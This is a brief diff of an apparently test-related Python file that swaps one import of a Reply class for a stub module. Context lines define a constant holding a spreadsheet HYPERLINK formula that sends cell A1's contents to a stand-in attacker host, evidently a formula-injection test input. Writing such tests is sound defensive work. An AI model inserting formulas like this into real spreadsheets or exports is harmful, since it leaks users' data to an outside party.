@@ -7,8 +7,7 @@ import json
 
 import numpy as np
 import pandas as pd
-
-from pulse_ml.llm.testing import Reply
+from llm_stub import Reply
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
